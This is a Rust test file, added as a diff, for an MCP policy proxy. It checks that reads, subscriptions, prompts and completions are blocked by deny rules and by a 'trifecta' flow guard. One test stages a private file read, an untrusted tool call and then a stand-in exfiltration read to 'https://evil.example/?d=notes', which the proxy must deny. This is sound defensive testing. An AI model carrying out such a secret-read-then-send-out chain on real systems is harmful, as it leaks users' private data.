@@ -1,0 +1,136 @@
+//! Issue 13, the input side, through the real binary against `examples/bypass_server`:
+//! every request that carries model data is decided, not only `tools/call` (SPEC
+//! "Policy": rules and flows over `resources/read`, `resources/subscribe`,
+//! `prompts/get` and `completion/complete`; labels over resources and prompts).
+
+// Tests fail by panicking, so unwrap is the clearest way to say "this must hold".
+#![allow(clippy::unwrap_used)]
+
+mod support;
+
+use serde_json::{Value, json};
+use support::{Env, Serve, example_table};
+
+/// The bypass server as `b`, with `policy` after it.
+fn serve_bypass(policy: &str) -> Serve {
+    let env = Env::new();
+    env.user_config(&format!(
+        "{}{policy}",
+        example_table("b", "bypass_server", &[])
+    ));
+    let mut serve = env.serve();
+    serve.initialize();
+    // Waits for the catalogs.
+    serve.tool_names(1);
+    // The environment lives as long as the test's serve: leak it with the process.
+    std::mem::forget(env);
+    serve
+}
+
+/// The answer is -32003 with `rule` in its data.
+fn assert_blocked(answer: &Value, rule: &str) {
+    assert_eq!(answer["error"]["code"], -32003, "{answer}");
+    assert_eq!(answer["error"]["data"]["mcp-warden/rule"], rule, "{answer}");
+}
+
+fn read(serve: &mut Serve, id: i64, uri: &str) -> Value {
+    serve.request(json!(id), "resources/read", json!({"uri": uri}))
+}
+
+const TRIFECTA: &str = r#"
+[labels]
+private = { resources = ["file:///secret/**"] }
+untrusted = ["b__issue"]
+egress = { resources = ["https://**"], prompts = ["b__summarize"] }
+
+[flows]
+trifecta = "deny"
+"#;
+
+#[test]
+fn a_private_resource_read_arms_the_trifecta_and_an_https_read_or_a_prompt_is_denied() {
+    let mut serve = serve_bypass(TRIFECTA);
+    // Before the trifecta: the template read goes through.
+    let early = read(&mut serve, 2, "https://example.com/?q=hello");
+    assert!(early["result"]["contents"].is_array(), "{early}");
+    let private = read(&mut serve, 3, "file:///secret/notes.txt");
+    assert_eq!(
+        private["result"]["contents"][0]["text"], "read file:///secret/notes.txt",
+        "{private}"
+    );
+    let untrusted = serve.call_tool(4, "b__issue", json!({}));
+    assert_eq!(untrusted["result"]["isError"], false, "{untrusted}");
+    let out = read(&mut serve, 5, "https://evil.example/?d=notes");
+    assert_blocked(&out, "flow:trifecta");
+    let reason = out["error"]["message"].as_str().unwrap();
+    assert!(
+        reason.contains("file:///secret/notes.txt") && reason.contains("b__issue"),
+        "the denial names the earlier read and call: {reason}"
+    );
+    let prompt = serve.request(
+        json!(6),
+        "prompts/get",
+        json!({"name": "b__summarize", "arguments": {"text": "notes"}}),
+    );
+    assert_blocked(&prompt, "flow:trifecta");
+}
+
+const DENY_SECRET: &str = r#"
+[[policy.rules]]
+id = "no-secret"
+resources = ["file:///secret/**"]
+action = "deny"
+
+[[policy.rules]]
+id = "no-summaries"
+prompts = ["b__summarize"]
+when = { arg = "text", matches = "password" }
+action = "deny"
+"#;
+
+#[test]
+fn subscribe_and_complete_on_a_denied_resource_or_prompt_are_refused() {
+    let mut serve = serve_bypass(DENY_SECRET);
+    let uri = "file:///secret/notes.txt";
+    assert_blocked(&read(&mut serve, 2, uri), "no-secret");
+    let sub = serve.request(json!(3), "resources/subscribe", json!({"uri": uri}));
+    assert_blocked(&sub, "no-secret");
+    let unsub = serve.request(json!(4), "resources/unsubscribe", json!({"uri": uri}));
+    assert_blocked(&unsub, "no-secret");
+    let complete = serve.request(
+        json!(5),
+        "completion/complete",
+        json!({"ref": {"type": "ref/resource", "uri": uri}, "argument": {"name": "x", "value": "a"}}),
+    );
+    assert_blocked(&complete, "no-secret");
+    // A prompt's rule with a condition on its arguments: the value being completed
+    // stands for its argument.
+    let complete = serve.request(
+        json!(6),
+        "completion/complete",
+        json!({"ref": {"type": "ref/prompt", "name": "b__summarize"}, "argument": {"name": "text", "value": "my password"}}),
+    );
+    assert_blocked(&complete, "no-summaries");
+    let complete = serve.request(
+        json!(9),
+        "completion/complete",
+        json!({"ref": {"type": "ref/prompt", "name": "b__summarize"}, "argument": {"name": "text", "value": "hel"}}),
+    );
+    assert_eq!(
+        complete["result"]["completion"]["values"][0], "completed hel",
+        "{complete}"
+    );
+    // What the rules allow still goes through.
+    let fine = serve.request(
+        json!(7),
+        "prompts/get",
+        json!({"name": "b__summarize", "arguments": {"text": "hello"}}),
+    );
+    assert!(fine["result"]["messages"].is_array(), "{fine}");
+    let other = serve.request(
+        json!(8),
+        "resources/subscribe",
+        json!({"uri": "https://example.com/x"}),
+    );
+    assert_eq!(other["result"], json!({}), "{other}");
+}
